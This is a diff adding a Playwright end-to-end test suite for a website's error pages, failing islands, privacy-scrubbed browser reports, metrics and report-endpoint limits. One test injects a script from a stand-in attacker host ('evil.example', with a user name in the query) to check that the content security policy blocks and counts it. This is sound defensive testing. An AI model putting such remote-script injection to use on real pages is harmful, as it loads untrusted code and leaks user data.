@@ -1,0 +1,318 @@
+import { readFileSync } from 'node:fs';
+import type { APIRequestContext, Page } from '@playwright/test';
+import { expect, test } from './support/test';
+import { findings } from './support/axe';
+import { cmsSwitch, cmsUrl } from './support/cms';
+import { sitePort } from './support/ports';
+import type { SecondSite } from './support/second-site';
+import { startSecondSite } from './support/second-site';
+
+const offset = 30;
+const metricsPort = sitePort + offset + 1;
+const secret = 'only-for-these-tests';
+
+let site: SecondSite;
+test.beforeAll(async () => {
+  site = await startSecondSite(offset, {
+    CMS_URL: cmsUrl,
+    REVALIDATE_SECRET: secret,
+    METRICS_PORT: String(metricsPort),
+    REPORT_SAMPLE: '1',
+    NODE_OPTIONS: '--import ./e2e/support/throw-for-words.mjs',
+  });
+});
+test.afterAll(() => site.stop());
+test.beforeEach(async ({ request }) => cmsSwitch(request).reset());
+test.afterAll(async ({ request }) => cmsSwitch(request).reset());
+
+const words = 'Unexpected Application Error!';
+
+function post(slug: string, title: string): object {
+  return {
+    id: 9,
+    type: 'post',
+    title: { rendered: title },
+    content: { rendered: '<p>Text</p>' },
+    permalink: `/news/${slug}/`,
+    date_time: 1_764_892_800,
+  };
+}
+
+const plant = (request: APIRequestContext, slug: string, title: string) =>
+  cmsSwitch(request).plant({ route: 'slugpost', match: slug, body: post(slug, title) });
+
+const purge = (request: APIRequestContext, data: object) =>
+  request.post(`${site.url}/api/revalidate`, { data, headers: { authorization: `Bearer ${secret}` } });
+
+async function metric(request: APIRequestContext, line: RegExp): Promise<number> {
+  const text = await (await request.get(`http://localhost:${String(metricsPort)}/metrics`)).text();
+  const matches = text.split('\n').filter((one) => line.test(one));
+  return matches.reduce((sum, one) => sum + Number(one.split(' ').at(-1)), 0);
+}
+
+test.describe('a page that throws while it is made', () => {
+  for (const { lang, title, retry } of [
+    { lang: 'en', title: words, retry: 'Try again' },
+    { lang: 'de', title: 'Unerwarteter Anwendungsfehler!', retry: 'Noch einmal versuchen' },
+  ]) {
+    for (const width of [360, 1280]) {
+      test(`says so in the frame of the site, in ${lang} at ${String(width)} pixels`, async ({
+        page,
+        request,
+      }) => {
+        const slug = `broken-${lang}-${String(width)}`;
+        await plant(request, slug, 'Broken on purpose');
+        await page.setViewportSize({ width, height: 800 });
+        const address = `/news/${slug}/${lang === 'en' ? '' : `?lang=${lang}`}`;
+        const answer = await page.goto(`${site.url}${address}`);
+        expect(answer?.status()).toBe(500);
+        expect(answer?.headers()['cache-control']).toBe('private, no-store');
+        expect(answer?.headers()['content-security-policy']).toContain("object-src 'none'");
+        await expect(page.locator('html')).toHaveAttribute('lang', lang);
+        await expect(page.locator('meta[name=robots]').first()).toHaveAttribute('content', /noindex/);
+        await expect(page.getByRole('heading', { level: 1 })).toHaveText(title);
+        await expect(page.getByText('500 Internal Server Error')).toBeVisible();
+        await expect(page.getByRole('banner')).toBeVisible();
+        await expect(page.getByRole('contentinfo')).toBeVisible();
+        expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(width);
+        expect(await findings(page)).toEqual([]);
+
+        await plant(request, slug, 'Whole again');
+        await purge(request, { type: 'post', slug });
+        await page.getByRole('main').getByRole('link', { name: retry }).click();
+        await expect(page.getByRole('heading', { level: 1 })).toHaveText('Whole again');
+      });
+    }
+  }
+
+  test('keeps the view of the game, and tells of no error to the visitor', async ({ page, request }) => {
+    await plant(request, 'broken-view', 'Broken on purpose');
+    const answer = await page.goto(`${site.url}/news/broken-view/?viewer=webview`);
+    expect(answer?.status()).toBe(500);
+    await expect(page.getByRole('banner')).toHaveCount(0);
+    await expect(page.getByRole('link', { name: 'Try again' })).toHaveAttribute('href', /viewer=webview/);
+    expect(await answer?.text()).not.toMatch(/user@example\.com|throw-for-words|TypeError/);
+  });
+
+  test('is reached by a link, too', async ({ page, request }) => {
+    await plant(request, 'broken-link', 'Broken on purpose');
+    await page.goto(`${site.url}/news/`);
+    await page.evaluate(() => {
+      document.querySelector('main')?.insertAdjacentHTML('afterbegin', '<a href="/news/broken-link/">Go</a>');
+    });
+    await page.getByRole('link', { name: 'Go', exact: true }).dispatchEvent('click');
+    await expect(page.getByRole('heading', { level: 1 })).toHaveText(words);
+    await expect(page).toHaveURL(/\/news\/broken-link\/$/);
+  });
+
+  test('does not replace an older copy that is whole', async ({ request }) => {
+    await plant(request, 'broken-later', 'Whole before');
+    expect((await request.get(`${site.url}/news/broken-later/`)).status()).toBe(200);
+    await plant(request, 'broken-later', 'Broken on purpose');
+    await purge(request, { type: 'post', slug: 'broken-later' });
+    const answer = await request.get(`${site.url}/news/broken-later/`);
+    expect(answer.status()).toBe(200);
+    expect(await answer.text()).toContain('Whole before');
+  });
+
+  test('says so without the frame where the frame throws', async ({ request }) => {
+    await cmsSwitch(request).plant({
+      route: 'components/notification',
+      body: { res: '<p>Break the frame</p>' },
+    });
+    await purge(request, { type: 'all' });
+    const answer = await request.get(`${site.url}/news/never-made-${String(Date.now())}/?lang=it`);
+    expect(answer.status()).toBe(500);
+    expect(answer.headers()['cache-control']).toContain('no-store');
+    expect(answer.headers()['content-security-policy']).toContain("object-src 'none'");
+    expect(await answer.text()).toContain(words);
+    await cmsSwitch(request).reset();
+    await purge(request, { type: 'all' });
+  });
+
+  test('is in the log by its route, once, and in the metrics', async ({ request }) => {
+    const before = await metric(request, /^site_request_errors_total\{kind="page"\}/);
+    await plant(request, 'broken-logged', 'Broken on purpose');
+    await request.get(`${site.url}/news/broken-logged/?keyword=secret`);
+    const lines = site
+      .log()
+      .split('\n')
+      .filter((line) => line.startsWith('{'))
+      .map((line) => JSON.parse(line) as Record<string, unknown>)
+      .filter(({ event }) => event === 'request-error');
+    expect(lines.length).toBeGreaterThan(0);
+    expect(lines[0]).toMatchObject({
+      level: 'error',
+      kind: 'page',
+      digest: expect.stringMatching(/^\d+/),
+    });
+    expect(lines[0]?.route).toBe('/[locale]/[view]/news/[slug]');
+    expect(JSON.stringify(lines)).not.toMatch(/secret|user@example\.com/);
+    expect(await metric(request, /^site_request_errors_total\{kind="page"\}/)).toBe(before + 1);
+  });
+});
+
+test('an address that no route matches says the words of the catalogue on its 404 page', async ({ page }) => {
+  const answer = await page.goto(`${site.url}/no/such/page/`);
+  expect(answer?.status()).toBe(404);
+  await expect(page.getByText(`${words} 404 Not Found`)).toBeVisible();
+  await page.goto(`${site.url}/news/no-such-article/`);
+  await expect(page.getByText(words)).toHaveCount(0);
+});
+
+const notice = (page: Page) => page.getByRole('alert').filter({ hasText: words });
+
+/** A script of the page's first island: those of islands are loaded before all others. */
+async function islandScript(request: APIRequestContext, address: string): Promise<string> {
+  const html = await (await request.get(site.url + address)).text();
+  return /data-scripts="([^" ]+)/.exec(html)?.[1] ?? '';
+}
+
+test.describe('an island that fails', () => {
+  test('leaves the rest of the page alive when its script can’t be loaded, and can be tried again', async ({
+    page,
+    request,
+  }) => {
+    const script = await islandScript(request, '/academy/prestige-calculator/');
+    await page.route(`**${script}*`, (route) => route.abort());
+    await page.addInitScript(() => localStorage.setItem('prestigeCalculator', 'ember%5%2%25%0%'));
+    await page.goto(`${site.url}/academy/prestige-calculator/`, { waitUntil: 'commit' });
+    await expect(notice(page)).toBeVisible();
+    await expect(notice(page)).toContainText('saved in your browser is kept');
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+    expect(await findings(page)).toEqual([]);
+    expect(await page.evaluate(() => localStorage.getItem('prestigeCalculator'))).toContain('ember%5%2');
+
+    await page.unrouteAll();
+    await notice(page).getByRole('button', { name: 'Try again' }).click();
+    await expect(page.locator('#prestige-rows > li').first()).toBeVisible();
+    await expect(notice(page)).toHaveCount(0);
+
+    // A soft navigation shows that React runs the rest of the page.
+    await page.evaluate(() => Reflect.set(window, 'isSameDocument', true));
+    await page.getByRole('main').locator('a[href="/academy/"]').first().dispatchEvent('click');
+    await expect(page).toHaveURL(/academy\/$/);
+    expect(await page.evaluate(() => 'isSameDocument' in window)).toBe(true);
+  });
+
+  for (const { lang, title, width } of [
+    { lang: 'en', title: words, width: 1280 },
+    { lang: 'de', title: 'Unerwarteter Anwendungsfehler!', width: 360 },
+  ]) {
+    test(`says so in ${lang} when it throws, and what the player made stays`, async ({ page }) => {
+      await page.setViewportSize({ width, height: 800 });
+      await page.addInitScript(() => {
+        if (!localStorage.getItem('masteryBuilds')) localStorage.setItem('masteryBuilds', 'kept');
+        // The planner asks for the width of the window while it is rendered.
+        const matchMedia = window.matchMedia.bind(window);
+        window.matchMedia = (query) => {
+          if ('isWhole' in window) return matchMedia(query);
+          throw new TypeError('No media here');
+        };
+      });
+      await page.goto(`${site.url}/academy/masteries/?lang=${lang}`, { waitUntil: 'commit' });
+      const notice = page.getByRole('alert').filter({ hasText: title });
+      await expect(notice).toBeVisible();
+      await expect(page.getByRole('banner')).toBeVisible();
+      await expect(page.getByRole('contentinfo')).toBeVisible();
+      expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(width);
+      expect(await findings(page)).toEqual([]);
+      expect(await page.evaluate(() => localStorage.getItem('masteryBuilds'))).toBe('kept');
+      await page.evaluate(() => Reflect.set(window, 'isWhole', true));
+      await notice.getByRole('button').click();
+      await expect(notice).toHaveCount(0);
+      await expect(page.getByRole('main').getByRole('button').first()).toBeVisible();
+    });
+  }
+});
+
+test.describe('what browsers report', () => {
+  test('an error and the speed of the page arrive when the page is left, without what was typed', async ({
+    page,
+    request,
+  }) => {
+    const errors = /^site_browser_errors_total\{kind="search",view="web"\}/;
+    const paints = /^site_largest_contentful_paint_seconds_count\{kind="search",locale="de"/;
+    const [before, paintsBefore] = [await metric(request, errors), await metric(request, paints)];
+    await page.goto(`${site.url}/search/?keyword=secretword&lang=de`);
+    await page.evaluate(() => {
+      setTimeout(() => {
+        throw new TypeError('Not for "secretword" of anna@example.com');
+      });
+      setTimeout(() => void Promise.reject(new Error('Nobody waits 4711 times')), 50);
+    });
+    await page.waitForTimeout(200);
+    // Playwright does not see what a page sends while it goes away.
+    const sent = page.waitForRequest('**/api/reports');
+    await page.evaluate(() => dispatchEvent(new PageTransitionEvent('pagehide')));
+    expect((await sent).postData()).not.toContain('keyword');
+    await page.goto('about:blank');
+    await expect.poll(() => metric(request, errors)).toBe(before + 2);
+    await expect.poll(() => metric(request, paints)).toBe(paintsBefore + 1);
+    const line = site
+      .log()
+      .split('\n')
+      .find((one) => one.includes('"browser-error"') && one.includes('"search"'));
+    expect(JSON.parse(line ?? '{}')).toMatchObject({
+      level: 'warn',
+      route: 'search',
+      locale: 'de',
+      name: 'TypeError',
+      message: 'Not for "…" of (e-mail)',
+      build: readFileSync('.next/BUILD_ID', 'utf8').trim(),
+    });
+    expect(site.log()).not.toMatch(/secretword|anna@/);
+  });
+
+  test('a page that is left for another one reports once', async ({ page, request }) => {
+    const paints = /^site_largest_contentful_paint_seconds_count\{kind="glossary",locale="tr"/;
+    const before = await metric(request, paints);
+    await page.goto(`${site.url}/academy/glossary/?lang=tr`);
+    await page.goto(`${site.url}/events/`);
+    await expect.poll(() => metric(request, paints)).toBe(before + 1);
+  });
+
+  test('a source that the policy refuses is counted', async ({ page, request }) => {
+    const refused = /^site_policy_violations_total\{kind="events",directive="script-src-elem"\}/;
+    const before = await metric(request, refused);
+    await page.goto(`${site.url}/events/`);
+    await page.evaluate(() => {
+      document.head.append(
+        Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js?who=anna' }),
+      );
+    });
+    await expect.poll(() => metric(request, refused)).toBe(before + 1);
+  });
+
+  const json = { 'content-type': 'text/plain' };
+  for (const [what, status, headers, data] of [
+    ['a form', 415, { 'content-type': 'multipart/form-data' }, 'x'],
+    ['no JSON', 400, json, '{'],
+    ['another object', 400, json, '{}'],
+    ['too much', 413, json, 'x'.repeat(20_000)],
+    ['another site', 403, { ...json, 'sec-fetch-site': 'cross-site' }, '{}'],
+    ['a list of other reports', 204, { 'content-type': 'application/reports+json' }, '[]'],
+  ] as const) {
+    test(`${what} is answered with ${String(status)}`, async ({ request }) => {
+      const answer = await request.post(`${site.url}/api/reports`, { headers, data });
+      expect(answer.status()).toBe(status);
+      expect(answer.headers()['cache-control']).toContain('no-store');
+    });
+  }
+
+  test('a client that sends too many is refused', async ({ request }) => {
+    const headers = { 'content-type': 'application/reports+json', 'x-forwarded-for': '203.0.113.9' };
+    const statuses: number[] = [];
+    for (let sent = 0; sent < 62; sent += 1)
+      statuses.push((await request.post(`${site.url}/api/reports`, { headers, data: '[]' })).status());
+    expect(statuses.slice(0, 60)).toEqual(Array.from({ length: 60 }, () => 204));
+    expect(statuses.slice(60)).toEqual([429, 429]);
+  });
+
+  test('reading and reporting set no cookie and keep nothing in the browser', async ({ page, context }) => {
+    await page.goto(`${site.url}/events/`);
+    await page.goto(`${site.url}/news/`);
+    expect(await context.cookies()).toEqual([]);
+    expect(await page.evaluate(() => [localStorage.length, sessionStorage.length])).toEqual([0, 0]);
+  });
+});
